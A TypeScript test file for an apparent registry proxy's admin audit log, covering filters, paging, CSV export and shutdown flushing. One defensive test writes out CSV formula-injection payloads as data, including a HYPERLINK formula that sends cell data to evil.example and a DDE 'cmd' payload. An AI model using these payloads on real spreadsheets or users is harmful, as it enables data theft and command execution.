import t from 'tap';
import { parseCsv } from '@hub/testkit';
import { csvRecord } from '@hub/admin-kit';
import { createDb } from '@hub/runtime/internal';
import { ENTRY_COLUMNS } from '../src/index.js';
import { auditRows, setup, type AdminSetup } from './setup.js';

const iso = (ms: number) => new Date(Number(ms)).toISOString();
/** A database row as the API writes it. */
const asEntry = (r: Record<string, any>) => ({
  id: Number(r.id),
  time: iso(r.at),
  user_id: r.user_id,
  token_id: r.token_id,
  ip_address: r.ip_address,
  action: r.action,
  outcome: r.outcome,
  registry: r.registry,
  package: r.package,
  version: r.version,
  status: Number(r.status),
  code: r.code,
  request_id: r.request_id,
  detail: r.detail,
  via_group: r.via_group ?? null,
});

/** Registry traffic and admin actions from four client addresses, allowed, denied and challenged. */
async function traffic(s: AdminSetup) {
  const reader = await s.token('rita', { roles: ['reader'] });
  const auditor = await s.token('audrey', { roles: ['auditor'] });
  const json = { accept: 'application/json' };
  for (let i = 0; i < 3; i++)
    await s.api('GET', '/proxy/npm/hubdemo/1.0.0/tarball', { token: reader, localAddress: '127.0.0.3' });
  await s.api('GET', '/proxy/npm/hubdemo', { token: reader, localAddress: '127.0.0.3', headers: json });
  await s.api('POST', '/api/v1/admin/blocks', {
    body: { registry: 'npm', package_name: 'hubdep', reason: 'a,"quoted"\r\nline =1+1' },
  });
  await s.api('GET', '/proxy/npm/hubdep', { token: reader, localAddress: '127.0.0.3', headers: json });
  // Two clients: challenges from one IP are written once a second (issue 10).
  await s.api('GET', '/proxy/npm/hubdemo', { token: null, localAddress: '127.0.0.4', headers: json });
  await s.api('GET', '/proxy/npm/hubdemo', { token: null, localAddress: '127.0.0.5', headers: json });
  await s.api('GET', '/proxy/npm/hubdemo', { token: auditor, localAddress: '127.0.0.4', headers: json });
  await s.api('POST', '/api/v1/admin/ip-blocks', { body: { ip: '2001:db8::/32', reason: 'tab\there "and" comma,' } });
  await s.api('POST', '/api/v1/admin/unlist', { body: { registry: 'npm', package_name: 'hubdemo', version: '1.0.0' } });
  await s.api('DELETE', `/api/v1/admin/cache/npm/hubdemo/1.0.0`);
  // The cache's own removals are written through the same writer (action retention_reclaim).
  s.hub.audit.record({
    at: Date.now(),
    user_id: null,
    token_id: null,
    ip_address: null,
    action: 'retention_reclaim',
    outcome: 'allowed',
    registry: 'npm',
    package: 'hubdemo',
    version: '1.1.0',
    status: 200,
    code: null,
    request_id: null,
    detail: 'lru',
  });
}

t.test('the audit log records registry requests, refusals and admin actions with their members', async (t) => {
  const s = await setup(t);
  await traffic(s);
  const rows = await auditRows(s);
  t.match(
    rows.find((r) => r.action === 'download' && r.ip_address === '127.0.0.3'),
    {
      user_id: 'rita',
      token_id: /^[0-9a-f]{16}$/,
      outcome: 'allowed',
      registry: 'npm',
      package: 'hubdemo',
      version: '1.0.0',
      status: 200,
      code: null,
      request_id: /\S/,
    },
  );
  t.match(
    rows.find((r) => r.action === 'metadata' && r.outcome === 'allowed'),
    { package: 'hubdemo', version: null, user_id: 'rita' },
  );
  t.match(
    rows.find((r) => r.code === 'package_blocked'),
    { outcome: 'denied', status: 403, package: 'hubdep', user_id: 'rita', ip_address: '127.0.0.3' },
  );
  t.equal(rows.filter((r) => r.outcome === 'challenged').length, 2, 'credential-less 401s are challenges, not denials');
  t.match(
    rows.find((r) => r.code === 'forbidden'),
    { user_id: 'audrey', outcome: 'denied', status: 403, ip_address: '127.0.0.4' },
  );
  t.match(
    rows.find((r) => r.action === 'block_add'),
    {
      user_id: 'admin',
      token_id: 'bootstrap',
      outcome: 'allowed',
      status: 201,
      registry: 'npm',
      package: 'hubdep',
      version: null,
      detail: 'a,"quoted"\r\nline =1+1',
    },
  );
  t.match(
    rows.find((r) => r.action === 'ip_block_add'),
    { detail: 'ip 2001:db8::/32: tab\there "and" comma,' },
  );
  t.match(
    rows.find((r) => r.action === 'delete'),
    { user_id: 'admin', registry: 'npm', package: 'hubdemo', version: '1.0.0', status: 200 },
  );
  t.match(
    rows.find((r) => r.action === 'retention_reclaim'),
    { user_id: null, registry: 'npm', version: '1.1.0' },
  );
  const metrics = await (await fetch(`${s.url}/metrics`)).text();
  t.match(metrics, /hub_access_denials_total\{code="package_blocked"\} 1/, 'denials are counted by code');
  t.match(metrics, /hub_auth_challenges_total 2/, 'challenges are counted apart');
  t.notMatch(metrics, /hub_access_denials_total\{code="unauthenticated"\}/, 'and not as denials');
});

t.test('the filters return exactly the matching rows', async (t) => {
  const s = await setup(t);
  await traffic(s);
  const all = await auditRows(s);
  const times = all.map((r) => Number(r.at));
  const from = times[3]!;
  const to = times[9]!;
  const cases: Array<[string, (r: Record<string, any>) => boolean]> = [
    ['denied=true', (r) => r.outcome === 'denied'],
    ['outcome=challenged', (r) => r.outcome === 'challenged'],
    ['action=download', (r) => r.action === 'download'],
    ['action=block_add,ip_block_add,unlist', (r) => ['block_add', 'ip_block_add', 'unlist'].includes(r.action)],
    ['ip=127.0.0.4', (r) => r.ip_address === '127.0.0.4'],
    ['ip=%3A%3Affff%3A127.0.0.3', (r) => r.ip_address === '127.0.0.3'],
    [`from=${iso(from)}&to=${iso(to)}`, (r) => Number(r.at) >= from && Number(r.at) < to],
    [`from=${iso(from)}`, (r) => Number(r.at) >= from],
    [`to=${iso(to)}`, (r) => Number(r.at) < to],
    ['denied=true&ip=127.0.0.3', (r) => r.outcome === 'denied' && r.ip_address === '127.0.0.3'],
    [
      'user_id=rita&action=download,metadata',
      (r) => r.user_id === 'rita' && ['download', 'metadata'].includes(r.action),
    ],
    ['registry=npm&denied=true', (r) => r.registry === 'npm' && r.outcome === 'denied'],
    ['action=no_such_action', () => false],
  ];
  for (const [query, keep] of cases) {
    const before = await auditRows(s);
    const r = await s.api('GET', `/api/v1/admin/audit-log?${query}&limit=1000`);
    t.equal(r.status, 200, query);
    const want = before.filter(keep).map(asEntry).reverse();
    t.same(r.json.entries, want, `${query}: ${want.length} rows`);
    t.equal(r.json.next_cursor, null);
  }
  t.ok(
    all.filter((r) => r.outcome === 'denied').length >= 2 && all.some((r) => r.outcome === 'allowed'),
    'the data has both outcomes',
  );
});

t.test('cursor paging is stable while new rows arrive', async (t) => {
  const s = await setup(t);
  await traffic(s);
  const snapshot = (await auditRows(s)).map(asEntry).reverse();
  const seen: unknown[] = [];
  let cursor: string | null = null;
  let pages = 0;
  do {
    const r = await s.api('GET', `/api/v1/admin/audit-log?limit=4${cursor ? `&cursor=${cursor}` : ''}`);
    t.equal(r.status, 200);
    seen.push(...r.json.entries);
    cursor = r.json.next_cursor;
    pages++;
    // New traffic between pages lands above the cursor and never shifts a page.
    await s.api('GET', '/healthz');
    await s.api('GET', '/api/v1/admin/blocks');
  } while (cursor && pages < 100);
  t.same(seen, snapshot, `${pages} pages, newest first, nothing missed or repeated`);
  t.ok(pages > 2);
});

t.test('the CSV export parses back to the same rows', async (t) => {
  const s = await setup(t);
  await traffic(s);
  const snapshotMax = Math.max(...(await auditRows(s)).map((r) => Number(r.id)));
  for (const query of [
    '',
    'ip=127.0.0.1',
    'denied=true',
    `from=${iso(Date.now() - 60_000)}&to=${iso(Date.now() + 60_000)}`,
  ]) {
    const csv = await s.api('GET', `/api/v1/admin/audit-log/export?format=csv&${query}`);
    t.equal(csv.status, 200);
    t.match(csv.headers['content-type'], /^text\/csv/);
    const [header, ...records] = parseCsv(csv.text);
    t.same(header, [...ENTRY_COLUMNS], 'the header names the members');
    const json = (await s.api('GET', `/api/v1/admin/audit-log?limit=1000&${query}`)).json.entries as Record<
      string,
      unknown
    >[];
    const expected = json
      .filter((e) => Number(e.id) <= snapshotMax)
      .map((e) => ENTRY_COLUMNS.map((c) => (e[c] === null ? '' : String(e[c]))));
    const got = records.filter((r) => Number(r[0]) <= snapshotMax);
    t.same(got, expected, `${query || 'no filter'}: ${got.length} rows`);
  }
  const tricky = parseCsv((await s.api('GET', '/api/v1/admin/audit-log/export?action=block_add')).text)[1]!;
  t.equal(tricky[ENTRY_COLUMNS.indexOf('detail')], 'a,"quoted"\r\nline =1+1', 'commas, quotes and line breaks survive');
  t.equal((await s.api('GET', '/api/v1/admin/audit-log/export?format=xml')).status, 400);
});

t.test('CSV cells that a spreadsheet would run as formulas are written as text', async (t) => {
  for (const [value, cell] of [
    ['=HYPERLINK("http://x","y")', '"\'=HYPERLINK(""http://x"",""y"")"'],
    ['+1', "'+1"],
    ['-1+2', "'-1+2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', '"\'\rx"'],
    ['a=1', 'a=1'],
    ['', ''],
  ] as const) {
    t.equal(csvRecord([value]), `${cell}\r\n`, JSON.stringify(value));
  }
  t.equal(
    csvRecord([-1, null, 'a\nb', 'x,y']),
    '-1,,"a\nb","x,y"\r\n',
    'numbers are not text; null is empty; CR, LF and commas are quoted',
  );

  const s = await setup(t);
  for (const reason of ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0"]) {
    t.equal(
      (
        await s.api('POST', '/api/v1/admin/blocks', {
          body: { registry: 'npm', package_name: `p${reason.length}`, reason },
        })
      ).status,
      201,
    );
  }
  const rows = parseCsv((await s.api('GET', '/api/v1/admin/audit-log/export?action=block_add')).text).slice(1);
  const details = rows.map((r) => r[ENTRY_COLUMNS.indexOf('detail')]).sort();
  t.same(
    details,
    ['\'=HYPERLINK("http://evil.example/?"&A1,"open")', "'@SUM(1+1)*cmd|' /C calc'!A0"].sort(),
    'the cells start with a quote',
  );
});

t.test('a clean shutdown writes every buffered event', async (t) => {
  const s = await setup(t, { config: { audit_log: { flush_interval_ms: 60_000, batch_rows: 10_000 } } });
  const reader = await s.token('rita', { roles: ['reader'] });
  for (let i = 0; i < 25; i++) await s.api('GET', '/proxy/npm/hubdemo/1.0.0/tarball', { token: reader });
  const file = s.hub.config.database.filename;
  t.equal(
    Number((await s.hub.db('access_events').count({ n: '*' }))[0]!.n),
    0,
    'nothing written yet (the timer is a minute)',
  );
  await s.close();
  const db = createDb({ client: 'sqlite', filename: file } as never);
  t.teardown(() => db.destroy());
  t.equal(
    Number((await db('access_events').where({ action: 'download' }).count({ n: '*' }))[0]!.n),
    25,
    'all 25 downloads are in the database after close',
  );
});

t.test('bad filters are 400 with a message', async (t) => {
  const s = await setup(t);
  for (const q of [
    'denied=maybe',
    'from=yesterday',
    'to=2025-13-01T00:00:00Z',
    'action=DROP%20TABLE',
    'ip=999.1.1.1',
    'cursor=abc',
    'cursor=-1',
    'limit=0',
    'limit=5000',
    'outcome=lost',
    'denied=true&outcome=allowed',
  ]) {
    const r = await s.api('GET', `/api/v1/admin/audit-log?${q}`);
    t.equal(r.status, 400, q);
    t.equal(r.json.error.code, 'bad_request', `${q}: ${r.json.error.message}`);
  }
});
